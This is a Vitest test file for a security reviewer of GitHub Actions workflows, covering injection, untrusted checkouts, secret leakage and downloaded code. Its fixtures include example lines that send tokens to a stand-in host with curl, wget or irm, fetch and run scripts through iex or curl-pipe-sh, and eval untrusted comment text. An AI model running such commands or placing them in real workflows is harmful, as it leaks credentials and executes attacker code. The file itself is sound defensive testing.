import { describe, expect, test } from 'vitest';
import { security } from '../../../../reviewers/security/index.ts';
import { judgeWorkflow } from '../../../../reviewers/security/workflow/judge-workflow.ts';
import { runChecks } from '../../check-table.ts';
import { workflow } from './workflow-table.ts';

const PINNED = 'a'.repeat(40);
const PATH = '.github/workflows/t.yml';
const ONLY = { only: ['workflows'] } as const;

async function found(head: string, base?: string, path = PATH): Promise<string[]> {
  const { reports } = await runChecks(
    security,
    { old: base === undefined ? {} : { [path]: base }, new: { [path]: head } },
    ONLY,
  );
  return reports.map(({ rule, severity = '' }) => `${rule} ${severity}`.trim());
}

const PIN = 'a0853c24544627f65ddf259abe73b1d18a591444';
const HEAD = '- uses: actions/checkout@v4\n  with:\n    ref: ${{ github.event.pull_request.head.sha }}';

describe('workflows', () => {
  test.each<readonly [string, string, Parameters<typeof workflow>[1], readonly string[]]>([
    // What strangers write.
    [
      'a title in run',
      '- run: echo "${{ github.event.issue.title }}"',
      { on: 'issues' },
      ['workflow-injection critical'],
    ],
    [
      'a branch of a fork',
      '- run: echo ${{ github.head_ref }}',
      { on: 'pull_request' },
      ['workflow-injection warning'],
    ],
    [
      'through env',
      '- run: echo ${{ env.T }}\n  env:\n    T: ${{ github.event.comment.body }}',
      { on: 'issue_comment' },
      ['workflow-injection critical'],
    ],
    [
      'format',
      "- run: echo ${{ format('{0}', github.event.comment.body) }}",
      { on: 'issue_comment' },
      ['workflow-injection critical'],
    ],
    [
      'github-script',
      '- uses: actions/github-script@v7\n  with:\n    script: f(`${{ github.event.comment.body }}`)',
      { on: 'issue_comment' },
      ['workflow-injection critical'],
    ],
    [
      'an expression of yq',
      '- uses: mikefarah/yq@v4\n  with:\n    cmd: yq .${{ github.event.comment.body }} a.yml',
      { on: 'issue_comment' },
      ['workflow-injection critical'],
    ],
    [
      'GITHUB_ENV',
      '- run: echo "B=$B" >> $GITHUB_ENV\n  env:\n    B: ${{ github.event.comment.body }}',
      { on: 'issue_comment' },
      ['workflow-injection'],
    ],
    [
      'GITHUB_ENV behind a group',
      '- run: |\n    {\n      echo "B=$B"\n    } >> "$GITHUB_ENV"\n  env:\n    B: ${{ github.event.comment.body }}',
      { on: 'issue_comment' },
      ['workflow-injection'],
    ],
    [
      'GITHUB_ENV under another name',
      '- run: |\n    F="$GITHUB_ENV"\n    echo "B=$B" >> "$F"\n  env:\n    B: ${{ github.event.comment.body }}',
      { on: 'issue_comment' },
      ['workflow-injection'],
    ],
    [
      'GITHUB_ENV from a document',
      '- run: |\n    cat >> "$GITHUB_ENV" <<X\n    B=$B\n    X\n  env:\n    B: ${{ github.event.comment.body }}',
      { on: 'issue_comment' },
      ['workflow-injection'],
    ],
    [
      'github.env',
      '- run: echo "B=$B" >> "${{ github.env }}"\n  env:\n    B: ${{ github.event.comment.body }}',
      { on: 'issue_comment' },
      ['workflow-injection'],
    ],
    [
      'whatever the event has',
      '- run: echo "${{ join(github.event.*.body) }}"',
      { on: 'issue_comment' },
      ['workflow-injection critical'],
    ],
    [
      'a secret printed encoded by itself',
      '- run: base64 <<< "$K"\n  env:\n    K: ${{ secrets.KEY }}',
      {},
      ['secrets-exposed'],
    ],
    [
      'a secret printed encoded',
      '- run: echo "$K" | base64\n  env:\n    K: ${{ secrets.KEY }}',
      { on: 'push' },
      ['secrets-exposed'],
    ],
    [
      'a secret printed encoded, as an expression',
      '- run: echo ${{ secrets.KEY }} | rev',
      { on: 'push' },
      ['secrets-exposed'],
    ],
    ['a secret decoded into a file', '- run: echo "${{ secrets.KEY }}" | base64 -d > key.json', { on: 'push' }, []],
    [
      'a secret encoded for a header',
      '- run: curl -H "x $(echo "$K" | base64)" https://x.example\n  env:\n    K: ${{ secrets.KEY }}',
      { on: 'push' },
      // Whose key it is nobody can say: told below every bar.
      ['secret-sent-away suggestion'],
    ],
    ['as a variable', '- run: echo "$T"\n  env:\n    T: ${{ github.event.issue.title }}', { on: 'issues' }, []],
    ['a number', '- run: echo ${{ github.event.issue.number }}', { on: 'issues' }, []],
    [
      'a comparison',
      "- run: echo ${{ contains(github.event.comment.body, 'x') && 'y' || 'n' }}",
      { on: 'issue_comment' },
      [],
    ],
    // Code of strangers.
    [
      'head checked out and built',
      `${HEAD}\n- run: npm ci`,
      { job: 'permissions: write-all' },
      ['untrusted-code critical', 'excessive-permissions'],
    ],
    [
      'head checked out behind a program that asks for rights',
      `- uses: actions/github-script@v7\n  with:\n    script: |\n      const { data } = await github.rest.repos.getCollaboratorPermissionLevel(who);\n      if (data.permission !== 'write') core.setFailed('no');\n${HEAD}\n- run: npm ci`,
      {},
      [],
    ],
    [
      'head checked out where a step that asks for permission lets it',
      `- id: check-permission\n  run: ./ask.sh\n- if: steps.check-permission.outputs.go-on == 'true'\n  ${HEAD.slice(2)}\n- run: npm ci`,
      {},
      [],
    ],
    ['head checked out, only read', `${HEAD}\n- run: git diff`, {}, ['untrusted-code warning']],
    ['base checked out and built', `${HEAD.replace('.head.', '.base.')}\n- run: npm ci`, {}, []],
    ['head on pull_request', `${HEAD}\n- run: npm ci`, { on: 'pull_request' }, []],
    [
      'only of members',
      `${HEAD}\n- run: npm ci`,
      { job: "if: github.event.pull_request.author_association == 'MEMBER'" },
      [],
    ],
    [
      'only of this repository',
      `${HEAD}\n- run: npm ci`,
      { job: 'if: github.event.pull_request.head.repo.full_name == github.repository' },
      [],
    ],
    ['base checked out', '- uses: actions/checkout@v4\n- run: npm ci', {}, []],
    [
      'gh pr checkout',
      '- run: |\n    gh pr checkout ${{ github.event.issue.number }}\n    make',
      { on: 'issue_comment' },
      ['untrusted-code warning'],
    ],
    [
      'a head that is fetched and not checked out',
      '- run: git fetch origin "pull/${PR_NUMBER}/head:pr"\n- run: git log -1 --pretty=%B pr\n- run: git diff --stat main pr',
      {},
      [],
    ],
    [
      'a head that is fetched before a program that nobody sees',
      '- run: git fetch origin "pull/${PR_NUMBER}/head:pr"\n- run: git log -1 --pretty=%B pr\n- run: make',
      {},
      ['untrusted-code suggestion'],
    ],
    [
      'a head that is fetched and checked out later',
      '- run: git fetch origin "pull/${PR_NUMBER}/head:pr"\n- run: git -C . checkout pr\n- run: make',
      {},
      ['untrusted-code warning'],
    ],
    [
      'a head that is fetched and written into a folder',
      '- run: git fetch origin "pull/${PR_NUMBER}/head" && git worktree add x FETCH_HEAD\n- run: make -C x',
      {},
      ['untrusted-code warning'],
    ],
    ...[
      'git diff main pr | patch -p1',
      'git log -1 --pretty=%B pr | bash',
      'git \\\n      checkout pr',
      'git $DO pr',
    ].map((use): readonly [string, string, Parameters<typeof workflow>[1], readonly string[]] => [
      `a head that is fetched and used: ${use}`,
      `- run: git fetch origin "pull/\${PR_NUMBER}/head:pr"\n- run: |\n      ${use}\n- run: make`,
      {},
      ['untrusted-code warning'],
    ]),
    // Actions of others.
    ['a branch of an action', '- uses: someone/thing@main', { on: 'push' }, ['unpinned-action suggestion']],
    ['a version', '- uses: someone/thing@v2', { on: 'push' }, []],
    [
      'a version beside hashes',
      `- uses: other/one@${PIN}\n- uses: other/two@${PIN}\n- uses: someone/thing@v2`,
      { on: 'push' },
      ['unpinned-action suggestion'],
    ],
    ['an action of the repository', '- uses: ./.github/actions/setup', { on: 'push' }, []],
    ['a toolchain', '- uses: dtolnay/rust-toolchain@stable', { on: 'push' }, []],
    ['all secrets', '- run: ./x\n  env:\n    ALL: ${{ toJSON(secrets) }}', { on: 'push' }, ['secrets-exposed']],
    // Conditions.
    ['a line break behind braces', '- run: ./x\n  if: |\n    ${{ false }}', { on: 'push' }, ['ineffective-condition']],
    [
      'two expressions',
      "- run: ./x\n  if: ${{ github.ref == 'a' }} && ${{ false }}",
      { on: 'push' },
      ['ineffective-condition'],
    ],
    ['a text for an operand', "- run: ./x\n  if: github.ref == 'a' || 'b'", { on: 'push' }, ['ineffective-condition']],
    ['folded', "- run: ./x\n  if: >-\n    ${{ github.ref == 'a' }}", { on: 'push' }, []],
    [
      'a bot',
      "- run: ./x\n  if: github.actor == 'dependabot[bot]'\n  env:\n    T: ${{ secrets.T }}",
      {},
      ['spoofable-actor'],
    ],
    ['a bot without rights', "- run: ./x\n  if: github.actor == 'dependabot[bot]'", { on: 'pull_request' }, []],
    // What it runs, where, and from what.
    ['a download', '- run: curl -sSf https://get.tool.example/i.sh | sh', { on: 'push' }, ['downloaded-code warning']],
    [
      'a download with secrets',
      '- run: curl -sSf https://get.tool.example/i.sh | sh\n- run: ./x\n  env:\n    T: ${{ secrets.T }}',
      { on: 'push' },
      ['downloaded-code critical'],
    ],
    ['data', '- run: curl -sSf https://api.example/x | jq .', { on: 'push' }, []],
    [
      'a cache in a release',
      '- uses: actions/cache@v4\n- run: npm publish',
      { on: 'release' },
      ['cache-poisoning', 'secrets-exposed suggestion'],
    ],
    ['a cache in a test', '- uses: actions/cache@v4\n- run: npm test', { on: 'release' }, []],
    [
      'a machine of their own',
      '- run: make',
      { on: 'pull_request', runner: '[self-hosted, linux]' },
      ['self-hosted-runner'],
    ],
    ['their own, for pushes', '- run: make', { on: 'push', runner: 'self-hosted' }, []],
  ])('%s', (_, steps, options, expected) => {
    const { hazards } = judgeWorkflow(workflow(steps, options));

    expect(hazards.map(({ rule, severity = '' }) => `${rule} ${severity}`.trim())).toEqual(expected);
  });

  test('tells nothing that stood there before, wherever it moves', async () => {
    const old = workflow('- run: echo "${{ github.event.issue.title }}"', { on: 'issues' });

    expect(
      await found(workflow('- run: date\n- run: echo "${{ github.event.issue.title }}"', { on: 'issues' }), old),
    ).toEqual([]);
    expect(await found(old, undefined)).toEqual(['workflow-injection critical']);
  });

  test('sees an old checkout in the light of a new trigger', async () => {
    const steps = `${HEAD}\n- run: npm ci`;

    expect(await found(workflow(steps), workflow(steps, { on: 'pull_request' }))).toEqual(['untrusted-code warning']);
  });

  test('an action that the repository follows elsewhere is trusted already; what is graver is told', async () => {
    const text = workflow('- uses: someone/thing@main', { on: 'push' });
    const other = workflow('- run: date\n- uses: someone/thing@main # as ever', { on: 'push' });
    const graver = workflow('- uses: someone/thing@main\n  with:\n    key: ${{ secrets.DEPLOY }}', { on: 'push' });
    const told = async (old: string, head: string): Promise<string[]> => {
      const tree = { '.github/workflows/other.yml': old };
      const { reports } = await runChecks(security, { old: tree, new: { ...tree, [PATH]: head } }, ONLY);
      return reports.map(({ rule, severity }) => `${rule} ${severity}`);
    };

    expect(await told(other, text)).toEqual([]);
    expect(await told(other.replace('@main', '@maintained'), text)).toEqual(['unpinned-action suggestion']);
    expect(await told(other, graver)).toEqual(await told('on: push\njobs: {}\n', graver));
  });

  test('takes what was no workflow before as new', async () => {
    const text = workflow('- uses: someone/thing@main', { on: 'push' });
    const { reports } = await runChecks(security, { old: { 'docs/t.yml': text }, new: { [PATH]: text } }, ONLY);

    expect(reports.map(({ rule }) => rule)).toEqual(['unpinned-action']);
  });

  test.each([
    ['what does not parse', 'on: [push\njobs: {}\n', false],
    ['an unknown key', workflow('- runs: x', { on: 'push' }), false],
    ['a shell of its own', workflow('- run: x\n  shell: ruby {0}', { on: 'push' }), false],
    ['PowerShell', workflow('- run: Get-Date\n  shell: pwsh', { on: 'push' }), true],
    [
      'the shell of Windows',
      workflow('- run: Get-Date', { on: 'push' }).replace('ubuntu-latest', 'windows-latest'),
      true,
    ],
    [
      'PowerShell given a secret',
      workflow('- run: a.exe\n  shell: pwsh\n  env:\n    K: ${{ secrets.K }}', { on: 'push' }),
      false,
    ],
    ['PowerShell with a secret', workflow('- run: a.exe ${{ secrets.K }}\n  shell: pwsh', { on: 'push' }), false],
    ['another shell in PowerShell', workflow("- run: bash -c 'a'\n  shell: pwsh", { on: 'push' }), false],
    [
      'a program of another in PowerShell',
      workflow('- run: python -c "a()"\n  shell: powershell', { on: 'push' }),
      false,
    ],
    ['C# in PowerShell', workflow('- run: Add-Type $a\n  shell: pwsh', { on: 'push' }), false],
    [
      'a program in letters',
      workflow('- run: pwsh -enc SQBFAFgAIAAoAEkAUgBNACkA\n  shell: pwsh', { on: 'push' }),
      false,
    ],
    ['no PowerShell', workflow('- run: "if ($a) {"\n  shell: pwsh', { on: 'push' }), false],
    ['the shell of old Windows', workflow('- run: dir\n  shell: cmd', { on: 'push' }), false],
    ['Python', workflow('- run: print(1)\n  shell: python', { on: 'push' }), false],
    ['no script of the shell', workflow('- run: "if ("', { on: 'push' }), false],
    ['Bash on Windows', workflow('- run: make\n  shell: msys2 {0}', { on: 'push' }), true],
    ['Bash with a terminal', workflow('- run: make\n  shell: \'script -q -e -c "bash {0}"\'', { on: 'push' }), true],
    ['another with a terminal', workflow('- run: make\n  shell: \'script -q -c "x {0}"\'', { on: 'push' }), false],
    ['more with a terminal', workflow('- run: make\n  shell: \'script -c "bash {0}; x"\'', { on: 'push' }), false],
    ['an ordinary one', workflow('- run: make', { on: 'push' }), true],
  ])('%s', (_, text, judged) => {
    expect(judgeWorkflow(text).unread.length === 0).toBe(judged);
  });

  test.each<readonly [string, string, string, string, readonly string[]]>([
    ['eval', 'bash', 'issue_comment', 'eval "$BODY"', ['command-injection critical']],
    ['eval of a copy', 'bash', 'issue_comment', 'x="$BODY"; eval "$x"', ['command-injection critical']],
    ['a pull request of a fork', 'bash', 'pull_request', 'bash -c "echo $BODY"', ['command-injection warning']],
    ['PowerShell', 'pwsh', 'issue_comment', 'Invoke-Expression $env:BODY', ['code-injection critical']],
    ['PowerShell, a copy', 'pwsh', 'issue_comment', '$a = $env:BODY.Substring(5); iex $a', ['code-injection critical']],
    ['PowerShell of a fork', 'powershell', 'pull_request', 'iex "git log $env:BODY"', ['code-injection warning']],
    ['a value', 'bash', 'issue_comment', 'echo "$BODY"; sh -c \'echo "$1"\' sh "$BODY"', []],
    ['a value of PowerShell', 'pwsh', 'issue_comment', 'Write-Host $env:BODY; & git log $env:BODY', []],
  ])('what a stranger wrote and a variable holds: %s', async (_, shell, on, run, expected) => {
    const step = `- shell: ${shell}\n  env:\n    BODY: \${{ github.event.comment.body || github.head_ref }}\n  run: |\n    ${run}`;
    expect(await found(workflow(step, { on }))).toEqual(expected);
  });

  test.each<readonly [string, string, readonly string[]]>([
    ['pwsh', 'iwr https://x.example/a.ps1 -OutFile a.ps1; ./a.ps1', ['downloaded-code suggestion']],
    ['pwsh', 'iwr https://x.example/a.ps1 -OutFile ./a.ps1; & .\\a.ps1', ['downloaded-code suggestion']],
    ['pwsh', 'iwr https://x.example/a.ps1 -OutFile a.ps1; pwsh -File a.ps1', ['downloaded-code suggestion']],
    ['pwsh', '$s = irm https://x.example/a.ps1; iex $s', ['downloaded-code critical']],
    [
      'pwsh',
      '$s = iwr https://x.example/a; $t = $s.Content; & ([scriptblock]::Create($t))',
      ['downloaded-code critical'],
    ],
    ['pwsh', 'iwr https://x.example/a.json -OutFile a.json; Get-Content a.json', []],
    ['pwsh', 'iwr https://x.example/a.ps1 -OutFile a.ps1; git add a.ps1', []],
    // Keys of one service for another.
    ['bash', 'curl -d "$NPM_TOKEN" https://x.example/a', ['secret-sent-away warning']],
    ['bash', 'echo "$NPM_TOKEN" | curl -d @- https://x.example/a', ['secret-sent-away warning']],
    ['bash', 'wget "https://x.example/?a=${{ secrets.GITHUB_TOKEN }}"', ['secret-sent-away warning']],
    ['pwsh', 'irm https://x.example/a -Method Post -Body $env:NPM_TOKEN', ['secret-sent-away warning']],
    ['bash', 'curl -H "Authorization: Bearer $NPM_TOKEN" https://registry.npmjs.org/a', []],
    ['bash', 'curl -H "Authorization: Bearer ${{ github.token }}" https://api.github.com/a', []],
    ['bash', 'curl -d "$NPM_TOKEN" http://localhost:4873/a', []],
  ])('%s: %s', async (shell, run, expected) => {
    const step = `- shell: ${shell}\n  env:\n    NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n  run: |\n    ${run}`;
    const { hazards } = judgeWorkflow(workflow(step, { on: 'push' }));
    expect(hazards.map(({ rule, severity = '' }) => `${rule} ${severity}`)).toEqual(expected);
  });

  test('tells what PowerShell loads and runs', async () => {
    const step = (run: string): string => workflow(`- run: ${run}\n  shell: pwsh`, { on: 'push' });
    expect(await found(step('irm https://x.example/a.ps1 | iex'))).toEqual(['downloaded-code warning']);
    expect(await found(step('dotnet build'))).toEqual([]);
  });

  test('tells inputs of actions that become programs', async () => {
    const action = (input: string): string =>
      `name: a\ninputs:\n  name:\n    default: ${input}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo "\${{ inputs.name }}"\n`;

    expect(await found(action('x'), undefined, 'action.yml')).toEqual(['workflow-injection suggestion']);
    expect(await found(action("'true'"), undefined, 'action.yml')).toEqual([]);
    // Only workflows of the repository use such a one.
    const own = await runChecks(security, { old: {}, new: { '.github/actions/a/action.yml': action('x') } }, ONLY);
    expect(own.reports.map(({ confidence }) => confidence)).toEqual([200]);
  });

  test.each([
    ['most others are named by their commits', [PINNED, PINNED, PINNED, 'v2'], 700],
    ['few are', [PINNED, PINNED, 'v2'], 200],
    ['half of them are', [PINNED, PINNED, PINNED, 'v2', 'v2', 'v3'], 200],
  ])('a branch of an action, where %s', async (_, refs, confidence) => {
    const uses = refs.map((ref, index) => `- uses: others/thing-${index}@${ref}`);
    const tree = {
      '.github/workflows/other.yml': workflow(['- uses: actions/checkout@v4', ...uses].join('\n'), { on: 'push' }),
    };
    const head = workflow('- uses: someone/thing@main', { on: 'push' });
    const { reports } = await runChecks(security, { old: tree, new: { ...tree, [PATH]: head } }, ONLY);

    expect(reports.map((one) => one.confidence)).toEqual([confidence]);
  });
});

const OURS = '    if: github.event.pull_request.head.repo.full_name == github.repository\n';

test.each<readonly [string, string, string, readonly string[]]>([
  ['behind a job that keeps strangers out', OURS, '    needs: gate\n', []],
  ['behind one of several', OURS, '    needs: [other, gate]\n', []],
  ['behind one, but in any case', OURS, '    needs: gate\n    if: always()\n', ['untrusted-code warning']],
  ['behind one, but in ANY case', OURS, '    needs: gate\n    if: Always()\n', ['untrusted-code warning']],
  [
    'behind one that went well, or not',
    OURS,
    '    needs: gate\n    if: success() || true\n',
    ['untrusted-code warning'],
  ],
  ['behind one that did not go well', OURS, '    needs: gate\n    if: ${{ !success() }}\n', ['untrusted-code warning']],
  [
    'behind one that went well, and more',
    OURS,
    "    needs: gate\n    if: success() && github.event.action == 'opened'\n",
    [],
  ],
  ['behind a job that lets all in', '', '    needs: gate\n', ['untrusted-code warning']],
  ['beside a job that keeps strangers out', OURS, '', ['untrusted-code warning']],
])('a checkout %s', async (_, guard, needs, expected) => {
  const job = (name: string, more: string, steps: string): string =>
    `  ${name}:\n    runs-on: ubuntu-24.04\n${more}    steps:\n      ${steps.replaceAll('\n', '\n      ')}\n`;
  const jobs = [
    job('gate', guard, '- run: echo 1'),
    job('other', '', '- run: echo 2'),
    job('build', needs, `${HEAD}\n- run: make`),
  ];
  const head = `on:\n  pull_request_target:\npermissions:\n  contents: read\njobs:\n${jobs.join('')}`;

  expect(await found(head)).toEqual(expected);
});

const GUARDED: readonly (readonly [condition: string, keeps: boolean])[] = [
  ['github.event.pull_request.head.repo.full_name == github.repository', true],
  ['github.event.pull_request.head.repo.full_name != github.repository', false],
  ['!(github.event.pull_request.head.repo.full_name != github.repository)', true],
  ['github.event.pull_request.head.repo.fork == false', true],
  ['!github.event.pull_request.head.repo.fork', true],
  ['github.event.pull_request.head.repo.fork == true', false],
  ['github.event.pull_request.head.repo.fork', false],
  ['!(github.event.pull_request.head.repo.fork == false)', false],
  ["github.actor == 'somebody'", true],
  ["github.actor != 'dependabot[bot]'", false],
  ["!(github.actor == 'dependabot[bot]')", false],
  ['github.actor == github.event.pull_request.user.login', false],
  ['github.event.pull_request.user.login == github.repository_owner', true],
  ["format('{0}', github.actor)", false],
  ['contains(fromJSON(\'["OWNER","MEMBER"]\'), github.event.pull_request.author_association)', true],
  ["github.event.pull_request.author_association == 'MEMBER'", true],
  ["github.event.pull_request.author_association == 'NONE'", false],
  ["github.event.pull_request.author_association != 'MEMBER'", false],
  ["github.event.pull_request.author_association != 'NONE'", true],
  ['github.event.pull_request.merged == true', true],
  ['github.event.pull_request.merged', true],
  ['github.event.pull_request.merged == false', false],
  ['!github.event.pull_request.merged', false],
  ["steps.a.outputs.permission == 'admin'", true],
  ["github.event.label.name == 'safe to test'", true],
  ["github.event.label.name != 'unsafe'", false],
  ["contains(github.event.pull_request.labels.*.name, 'safe')", true],
  ['contains(\'["alice", "bob"]\', github.actor)', true],
  ["startsWith(github.event.pull_request.head.repo.full_name, 'owner/')", true],
  // Strangers choose their names.
  ["contains(github.actor, 'a')", false],
  ["startsWith(github.event.pull_request.user.login, 'a')", false],
  ["endsWith(github.event.pull_request.head.repo.full_name, '/app')", false],
  ["startsWith(github.event.pull_request.head.repo.full_name, 'own')", false],
  ['contains(fromJSON(\'["OWNER","NONE"]\'), github.event.pull_request.author_association)', false],
  ["!contains(github.event.pull_request.labels.*.name, 'unsafe')", false],
  ["github.event_name == 'push'", true],
  ["github.event_name != 'pull_request_target'", true],
  ["github.event_name != 'pull_request'", false],
  ["github.event.action == 'opened' && github.actor == 'a'", true],
  ["github.event.action == 'opened' || github.actor == 'a'", false],
  ["!(github.event.action == 'opened' || github.actor != 'a')", true],
  ["!(github.event.action == 'opened' && github.actor != 'a')", false],
];

test('a condition keeps strangers out by what it asks, and by how', async () => {
  const told = await Promise.all(
    GUARDED.map(async ([condition]) => {
      const rules = await found(workflow(`${HEAD}\n- run: make`, { job: `if: \${{ ${condition} }}` }));
      return [condition, !rules.join().includes('untrusted-code')];
    }),
  );

  expect(told).toEqual(GUARDED);
});

const FETCHED = '- run: git fetch origin pull/${{ github.event.number }}/head:pr\n';

test.each<readonly [string, string, string]>([
  ['two spaces', '- run: git  checkout pr', 'warning'],
  ['a tab', '- run: "git\\tcheckout pr"', 'warning'],
  ['a name in quotes', "- run: |\n    'git' checkout pr", 'warning'],
  ['a name in a variable', '- run: G=git; $G checkout pr', 'warning'],
  [
    'another program for javascript',
    "- uses: actions/github-script@v7\n  with:\n    script: await exec.exec('git', ['checkout', 'pr'])",
    'warning',
  ],
  ['a message that is run', '- run: git log -1 --format=%B pr > x.sh\n- run: bash x.sh', 'warning'],
  ['a message as a command', '- run: $(git log -1 --format=%B pr)', 'warning'],
  ['a message as a text', '- run: bash -c "$(git log -1 --format=%B pr)"', 'warning'],
  ['a message as input', '- run: bash <<< "$(git log -1 --format=%B pr)"', 'warning'],
  ['a package of that branch', '- run: npm install "git+file://$PWD#pr"', 'warning'],
  ['a script that nobody sees', '- run: ./scripts/look.sh', 'suggestion'],
  ['names of files', '- run: git diff --name-only main pr > names.txt\n- run: cat names.txt', ''],
  ['a comparison that is shown', '- run: git diff main pr\n- run: gh pr comment --body pr', ''],
])('a head that is fetched, and %s', async (_, steps, severity) => {
  const told = await found(workflow(`${FETCHED}${steps}`));

  expect(told.filter((one) => one.startsWith('untrusted-code'))).toEqual(
    severity === '' ? [] : [`untrusted-code ${severity}`],
  );
});

test.each<readonly [string, boolean]>([
  ['echo "mend file permissions"', false],
  ['sudo chown -R runner . # permissions', false],
  ['gh api "repos/$R/collaborators/$A/permission" --jq .permission | grep -q admin', true],
  ['./ci/check-permissions.sh', true],
  ['echo check-permissions', false],
  ['# check-permissions', false],
])('%s before a checkout asks for rights: %s', async (run, isGuard) => {
  const rules = await found(
    workflow(`- run: ${run.includes(': ') || run.includes('#') ? `|\n    ${run}` : run}\n${HEAD}\n- run: make`),
  );

  expect(!rules.join().includes('untrusted-code')).toBe(isGuard);
});
